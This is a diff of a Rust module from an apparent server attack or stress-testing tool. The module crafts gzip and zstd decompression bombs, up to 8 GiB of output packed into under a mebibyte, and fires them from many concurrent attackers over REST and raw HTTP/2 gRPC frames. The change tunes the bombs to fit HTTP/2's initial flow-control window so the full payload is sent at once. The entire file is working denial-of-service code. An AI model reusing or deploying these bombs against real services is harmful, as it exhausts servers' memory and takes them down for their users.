@@ -4,7 +4,7 @@
 
 use std::io::{self, Write};
 use std::sync::Arc;
-use std::time::{Duration, Instant};
+use std::time::Instant;
 
 use flate2::Compression;
 use flate2::write::DeflateEncoder;
@@ -12,21 +12,22 @@ use serde_json::Value;
 use tokio::io::{AsyncWriteExt, BufReader};
 use tokio::net::TcpStream;
 
-use super::frames::{self, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_PAYLOAD, WINDOW_UPDATE};
+use super::frames::{self, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_PAYLOAD};
 use super::huge_headers::count_frames;
 use super::{AttackArgs, Attacker, count_statuses, storm};
 use crate::Outcome;
 
 /// How much a gzip bomb holds: as much as fits into a body of less than a mebibyte, in bytes.
 const GZIP_BYTES: usize = 960 * 1024 * 1024;
+/// How much the bombs over gRPC hold: as much as fits into HTTP/2's first window, in bytes.
+const SMALL_GZIP_BYTES: usize = 48 * 1024 * 1024;
+const SMALL_ZSTD_BYTES: usize = 1800 * 1024 * 1024;
 /// What a gzip bomb repeats, in bytes.
 const PART_BYTES: usize = 16 * 1024 * 1024;
 /// How much a zstd bomb holds, in bytes.
 const ZSTD_BYTES: usize = 8 * 1024 * 1024 * 1024;
 /// The largest zstd block, in bytes.
 const ZSTD_BLOCK_BYTES: usize = 128 * 1024;
-/// How long to wait until the server says how much it takes.
-const FIRST_WINDOW_TIMEOUT: Duration = Duration::from_secs(1);
 /// What the bombs hold: in JSON, nothing but this may be without end.
 const FILL: u8 = b' ';
 
@@ -43,13 +44,17 @@ pub(crate) struct ZipBombArgs {
 struct Bombs {
     gzip: Vec<u8>,
     zstd: Vec<u8>,
+    small_gzip: Vec<u8>,
+    small_zstd: Vec<u8>,
     token: String,
 }
 
 pub(crate) async fn run(args: ZipBombArgs) -> Outcome<Value> {
     let bombs = Arc::new(Bombs {
-        gzip: gzip()?,
-        zstd: zstd(),
+        gzip: gzip(GZIP_BYTES)?,
+        zstd: zstd(ZSTD_BYTES),
+        small_gzip: gzip(SMALL_GZIP_BYTES)?,
+        small_zstd: zstd(SMALL_ZSTD_BYTES),
         token: args.token,
     });
     Ok(storm(&args.attack, |attacker| {
@@ -70,8 +75,8 @@ async fn send(attacker: &Attacker, bombs: &Bombs) -> io::Result<()> {
     let ended = match attacker.number % 4 {
         0 => over_rest(attacker, stream, bombs, "gzip", &bombs.gzip).await,
         1 => over_rest(attacker, stream, bombs, "zstd", &bombs.zstd).await,
-        2 => over_grpc(attacker, stream, bombs, "gzip", &bombs.gzip).await,
-        _ => over_grpc(attacker, stream, bombs, "zstd", &bombs.zstd).await,
+        2 => over_grpc(attacker, stream, bombs, "gzip", &bombs.small_gzip).await,
+        _ => over_grpc(attacker, stream, bombs, "zstd", &bombs.small_zstd).await,
     };
     attacker.ended(since, ended.is_err()).await;
     ended
@@ -125,20 +130,9 @@ async fn over_grpc(
     let mut message = vec![1];
     message.extend_from_slice(&u32::try_from(body.len()).unwrap_or(u32::MAX).to_be_bytes());
     message.extend_from_slice(body);
-    let mut out = frames::opening(&[]);
-    frames::frame(&mut out, HEADERS, END_HEADERS, 1, &block);
-    writing.write_all(&out).await?;
-    // A body of which all fits into what the server takes, once it has said so.
-    let mut reading = BufReader::new(reading);
-    let said = async {
-        while frames::read(&mut reading)
-            .await
-            .is_ok_and(|read| read.kind != WINDOW_UPDATE)
-        {}
-    };
-    let _ = tokio::time::timeout(FIRST_WINDOW_TIMEOUT, said).await;
     let writing = async move {
-        let mut out = Vec::new();
+        let mut out = frames::opening(&[]);
+        frames::frame(&mut out, HEADERS, END_HEADERS, 1, &block);
         for part in message.chunks(MAX_PAYLOAD) {
             frames::frame(&mut out, DATA, 0, 1, part);
         }
@@ -148,12 +142,12 @@ async fn over_grpc(
     };
     tokio::select! {
         ended = writing => ended,
-        ended = count_frames(attacker, reading) => ended,
+        ended = count_frames(attacker, BufReader::new(reading)) => ended,
     }
 }
 
 /// A gzip file of one member (RFC 1952).
-fn gzip() -> io::Result<Vec<u8>> {
+fn gzip(bytes: usize) -> io::Result<Vec<u8>> {
     let part = vec![FILL; PART_BYTES];
     let mut of_part = crc32fast::Hasher::new();
     of_part.update(&part);
@@ -170,24 +164,24 @@ fn gzip() -> io::Result<Vec<u8>> {
     let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
     out.extend_from_slice(&encoder.get_ref()[..first]);
     checksum.combine(&of_part);
-    for _ in 1..GZIP_BYTES / PART_BYTES {
+    for _ in 1..bytes / PART_BYTES {
         out.extend_from_slice(&again);
         checksum.combine(&of_part);
     }
     // An empty last block.
     out.extend_from_slice(&[3, 0]);
     out.extend_from_slice(&checksum.finalize().to_le_bytes());
-    let length = u32::try_from(GZIP_BYTES).unwrap_or(u32::MAX);
+    let length = u32::try_from(bytes).unwrap_or(u32::MAX);
     out.extend_from_slice(&length.to_le_bytes());
     Ok(out)
 }
 
 /// A zstd frame of blocks that each repeat one byte (RFC 8878): four bytes for each 128 KiB.
-fn zstd() -> Vec<u8> {
+fn zstd(bytes: usize) -> Vec<u8> {
     const REPEATED: u32 = 1;
     // A window of 128 KiB, and neither length nor checksum.
     let mut out = vec![0x28, 0xb5, 0x2f, 0xfd, 0, 7 << 3];
-    let blocks = ZSTD_BYTES / ZSTD_BLOCK_BYTES;
+    let blocks = bytes / ZSTD_BLOCK_BYTES;
     let size = u32::try_from(ZSTD_BLOCK_BYTES).unwrap_or_default();
     for block in 1..=blocks {
         let last = u32::from(block == blocks);
@@ -205,14 +199,14 @@ mod tests {
 
     #[test]
     fn bombs_are_small_and_valid() {
-        let gzip = gzip().unwrap();
-        assert!(gzip.len() < 1024 * 1024, "{}", gzip.len());
-        let mut out = std::io::sink();
-        let mut reading = flate2::read::GzDecoder::new(gzip.as_slice());
-        assert_eq!(
-            std::io::copy(&mut reading, &mut out).unwrap(),
-            GZIP_BYTES as u64
-        );
-        assert!(zstd().len() < 1024 * 1024);
+        for (bytes, most) in [(GZIP_BYTES, 1024 * 1024), (SMALL_GZIP_BYTES, 65_000)] {
+            let bomb = gzip(bytes).unwrap();
+            assert!(bomb.len() < most, "{}", bomb.len());
+            let mut reading = flate2::read::GzDecoder::new(bomb.as_slice());
+            let read = std::io::copy(&mut reading, &mut std::io::sink());
+            assert_eq!(read.unwrap(), bytes as u64);
+        }
+        assert!(zstd(ZSTD_BYTES).len() < 1024 * 1024);
+        assert!(zstd(SMALL_ZSTD_BYTES).len() < 65_000);
     }
 }
